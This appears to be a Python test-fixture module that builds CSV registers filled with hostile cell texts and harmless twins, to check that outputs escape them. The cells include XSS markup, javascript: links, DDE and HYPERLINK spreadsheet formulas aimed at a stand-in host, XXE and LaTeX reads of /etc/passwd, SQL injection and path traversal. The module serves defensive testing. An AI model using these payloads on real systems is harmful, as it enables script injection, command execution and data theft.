"""Cells that would harm a reader if any output took them for more than text, and registers full of them.

The registers are made from the schema, so that a column that is added is attacked too. Each has a harmless
twin of the same shape, with which whatever is written from both is compared.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING

from geocontracts.records.schema import load_schema

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path

    from geocontracts.records.schema import Field, TableSchema

HIT = "window.hit=1"
"""What each script does if it runs."""


@dataclass(frozen=True)
class Cell:
    """A hostile text, what it is called, and what it tries."""

    name: str
    text: str
    why: str


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)


_IMG = f"<img src=x onerror={HIT}>"

MARKUP = (
    Cell("img", _IMG, "a handler that runs as soon as it is markup"),
    Cell("upper", f"<IMG SRC=x ONERROR={HIT}>", "names in capitals"),
    Cell("mixed", f"<iMg/sRc=x/oNeRrOr={HIT}>", "mixed case, slashes for spaces"),
    Cell("svg", f'"><svg onload={HIT}>', "ends an attribute in double quotes"),
    Cell("quote", f"'><details open ontoggle={HIT}>", "ends an attribute in single quotes"),
    Cell("handler", f'" autofocus onfocus="{HIT}" x="', "adds an attribute"),
    Cell("bare", f"x onmouseover={HIT} y", "adds an attribute that has no quotes"),
    Cell("close", f"</script><script>{HIT}</script>", "ends the block it stands in"),
    Cell("close-odd", f"</ScRiPt\t><sCrIpT>{HIT}</SCRIPT>", "the same, in odd letters"),
    Cell("comment", f"<!--<script>{HIT}</script>-->", "a comment in a script: the double escaped state"),
    Cell("double", "<!--<script>", "never ended: all that follows would be script"),
    Cell("cdata", f"]]><script>{HIT}</script><![CDATA[", "ends a CDATA section"),
    Cell("style", f"</style></title></textarea></noscript>{_IMG}", "ends what holds raw text"),
    Cell("entity", f"&lt;img src=x onerror={HIT}&gt;", "markup if it is decoded twice"),
    Cell("numeric", "&#60;img src=x onerror=&#119;indow.hit=1&#x3e;", "numeric entities"),
    Cell("percent", "%3Cimg%20src%3Dx%20onerror%3Dwindow.hit%3D1%3E", "markup if an address is decoded"),
    Cell("fullwidth", _fullwidth(_IMG), "markup if signs are folded"),
    Cell("utf7", "+ADw-img src+AD0-x onerror+AD0-window.hit+AD0-1+AD4-", "markup read as UTF-7"),
    Cell("frame", f'<iframe srcdoc="{_IMG}"></iframe>', "a page inside"),
    Cell("base", '<base href="https://exemple.invalid/"><form action=//exemple.invalid>', "moves all links"),
    Cell("refresh", '<meta http-equiv=refresh content="0;url=https://exemple.invalid">', "leaves the page"),
    Cell("nested", f"<<script>script>{HIT}<</script>/script>", "markup if tags are taken out once"),
    Cell(
        "mathml", f"<math><mtext><style><img title='</style>{_IMG}'>", "markup that changes when parsed anew"
    ),
)
CODE = (
    Cell("template", f"${{{HIT}}}", "a template of JavaScript"),
    Cell("backtick", f"`;{HIT}//", "ends a template"),
    Cell("string", f'";{HIT};//', "ends a string"),
    Cell("string-single", f"';{HIT}//\\", "ends a string, and escapes what follows"),
    Cell("backslash", '\\"\\u003cimg src=x onerror=window.hit=1\\u003e\\', "escapes of JSON"),
    Cell("lines", f"a\u2028{HIT}\u2029b", "ends of line for JavaScript alone"),
    Cell("moustache", f"{{{{constructor.constructor('{HIT}')()}}}}", "a template of a framework"),
    Cell("replace", "$& $1 $` $' {name} {n} {title} {0} %s %(x)s", "placeholders of ours, and of replace()"),
    Cell("proto", "__proto__", "a name that every object has"),
    Cell("constructor", "constructor", "another one"),
)
ADDRESSES = (
    Cell("javascript", f"javascript:{HIT}", "a link that runs"),
    Cell("javascript-case", f"JaVaScRiPt:{HIT}", "in odd letters"),
    Cell("javascript-tab", f"java\tscript:{HIT}", "browsers take tabs out"),
    Cell("javascript-line", f"java\nscript:{HIT}", "and line ends"),
    Cell("javascript-control", f"\x01javascript:{HIT}", "and control signs in front"),
    Cell("javascript-entity", f"javascript&colon;{HIT}", "an entity for the colon"),
    Cell("vbscript", "vbscript:msgbox(1)", "another language"),
    Cell("data", f"data:text/html,<script>{HIT}</script>", "a page in a link"),
    Cell("data-base64", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=", "the same, hidden"),
    Cell("file", "file:///etc/passwd", "a file of the reader"),
    Cell("user", "https://www.gouv.fr@exemple.invalid/", "looks like another site"),
    Cell("address-tab", "https://gouv.fr\t.exemple.invalid/", "browsers take the tab out"),
    Cell("address-quote", f'https://exemple.invalid/"onmouseover={HIT}', "ends the attribute of a link"),
)
SIGNS = (
    Cell("override", "montant \u202e000 21\u202d euros", "letters shown backwards, never ended"),
    Cell("embedding", "gauche \u202b droite", "an embedding that is never ended"),
    Cell("isolate", "\u2066a\u2067b", "isolates that are never ended"),
    Cell("zero", "Ar\u200bras\u200c\u200d\ufeff\u2060", "signs of no width"),
    Cell("null", "avant\0après", "text that ends for programs in C"),
    Cell("terminal", "\x1b[2J\x1b]0;pris\x07\x9b31m", "commands of a terminal"),
    Cell("bell", "a\x07\x08\x7f", "control signs that XML refuses"),
    Cell("emoji", "👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇷 é\u0301\u0301\u0301", "signs made of several"),
    Cell("astral", "𝕏 漢字 \U000e0041", "beyond 16 bits, and a tag sign"),
    Cell("noncharacter", "a\ufffeb\uffff", "no characters"),
)
FORMULAS = (
    Cell("dde", "=cmd|' /C calc'!A0", "starts a program from a spreadsheet"),
    Cell("link", '=HYPERLINK("https://exemple.invalid/?"&A1;"ouvrir")', "sends cells away"),
    Cell("plus", "+cmd|' /C calc'!A0", "the same, without ="),
    Cell("minus", "-2+3+cmd|' /C calc'!A0", "the same"),
    Cell("at", "@SUM(1+1)*cmd|' /C calc'!A0", "the same, of Lotus"),
    Cell("tab", "\t=1+1", "blanks in front of it"),
    Cell("return", "\r=1+1", "the same"),
    Cell("blank", " \u00a0=1+1", "the same"),
    Cell("line", "\n=1+1", "the same"),
    Cell("fullwidth-formula", "\uff1d1+1", "an equals sign as some spreadsheets take it"),
    Cell("invisible-formula", "\u200b=1+1", "a sign of no width in front of it"),
)
FORMATS = (
    Cell("markdown", f"[lien](javascript:{HIT}) ![i](https://exemple.invalid/i.png) | a | b", "Markdown"),
    Cell("markdown-blocks", "# titre\n> cite\n```\n1. un\n- deux\n***\n<br>", "blocks of Markdown"),
    Cell("markdown-indent", "    code indenté", "code of Markdown"),
    Cell("autolink", "<https://exemple.invalid> www.exemple.invalid a@exemple.invalid [a]: /x", "bare links"),
    Cell("typst", '#eval("1+1") #panic() #read("/etc/passwd") $x$ @ref <label> */ //', "Typst"),
    Cell("latex", "\\input{/etc/passwd} \\immediate\\write18{id} $\\frac{1}{0}$ %", "LaTeX, and mathtext"),
    Cell("xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "XML"),
    Cell("css", "} * { background: url(https://exemple.invalid) } @import 'x'; /*", "CSS"),
    Cell("css-string", "\\22 ; content: url(x) \\", "a string of CSS"),
    Cell("svg-use", f'<svg><a xlink:href="javascript:{HIT}"><text>a</text></a></svg>', "SVG"),
    Cell("qgis", "[% env('HOME') %] \" || env('HOME') || ' @project_path", "an expression of QGIS"),
    Cell("sql", "'; DROP TABLE contracts; --", "SQL"),
    Cell("notebook", '"}]}], "nbformat": 4, "cells": [{"outputs": [', "the JSON of a notebook"),
    Cell("path", "../../../../tmp/x", "a path out of the folder"),
)
CELLS = (*MARKUP, *CODE, *ADDRESSES, *SIGNS, *FORMULAS, *FORMATS)
HUGE = Cell("huge", f"{_IMG} " * (1_000_000 // (len(_IMG) + 1)), "a cell of 1 MB")
HALF = Cell("half", "coupé \ud83d ici \udc00", "halves of signs, which JSON can hold")

TEXTS = tuple(cell.text for cell in CELLS)

_KEPT = re.compile(r"[^\s;]")


def harmless(text: str, rank: int) -> str:
    """Return a text of the same shape: blanks and semicolons stay, all else is a letter."""
    return _KEPT.sub("a", text) + f"a{rank}"


def as_shown(text: str) -> str:
    """Return a text as a reader sees it in HTML: blanks are one space."""
    return " ".join(text.split())


# ---- registers

_PLACES = ("commune:59172", "commune:62041", "commune:80021", "epci:200033579")


def is_free(field: Field, table: TableSchema) -> bool:
    """Say whether a column takes any text."""
    is_key = field.name in table.references or field.pattern or field.name in ("counted_in", "territories")
    return field.kind in ("text", "list") and not field.choices and not is_key


def refusing(table: TableSchema) -> list[Field]:
    """Return the columns that take no such text: dates, figures, choices, identifiers, links, references."""
    return [field for field in table.fields if not is_free(field, table)]


def write_register(folder: Path, texts: Iterable[str] = TEXTS) -> Path:
    """Write a register with each text in every column that takes any, on records that have a place."""
    folder.mkdir(parents=True)
    told = list(texts)
    for table in load_schema().values():
        rows = [_row(table, rank, text) for rank, text in enumerate(told)]
        _write(folder / table.path, table, rows)
    return folder


def _row(table: TableSchema, rank: int, text: str) -> dict[str, str]:
    row = {field.name: text for field in table.fields if is_free(field, table)}
    row["id"] = f"{table.name[0]}-{rank}"
    for column, target in table.references.items():
        row[column] = f"{target[0]}-{rank}"
    if any(field.name == "territories" for field in table.fields):
        place = _PLACES[rank % len(_PLACES)]
        row["territories"] = f"{place};custom:{text.replace(';', ',').replace('@', ' ')}"
    if "starts_on" in {field.name for field in table.fields}:
        row["starts_on"] = "2019-06"
    for field in table.fields:
        if field.kind == "amount":
            row[field.name] = str(1000 + rank)
    return row


def write_refused(folder: Path, text: str) -> tuple[Path, list[tuple[str, int, str]]]:
    """Write a register with a row for each column that takes no such text, and the text in it.

    Returns the folder, and where the text stands: file, row, column.
    """
    folder.mkdir(parents=True)
    where = []
    for table in load_schema().values():
        rows = [_row(table, 0, "texte")]
        for rank, field in enumerate(refusing(table), start=1):
            rows.append({**_row(table, 0, "texte"), "id": f"x-{rank}", field.name: text})
            where.append((table.path, rank + 2, field.name))
        _write(folder / table.path, table, rows)
    return folder, where


def _write(path: Path, table: TableSchema, rows: list[dict[str, str]]) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(
        out, [field.name for field in table.fields], lineterminator="\n", restval="", quoting=csv.QUOTE_ALL
    )
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(out.getvalue().encode())


def write_both(folder: Path, texts: Iterable[str] = TEXTS) -> tuple[Path, Path]:
    """Write a hostile register, and its harmless twin."""
    told = list(texts)
    plain = [harmless(text, rank) for rank, text in enumerate(told)]
    return write_register(folder / "hostile", told), write_register(folder / "plain", plain)


def only(*names: str) -> list[str]:
    """Return the texts of some cells, by name."""
    return [cell.text for cell in CELLS if cell.name in names]
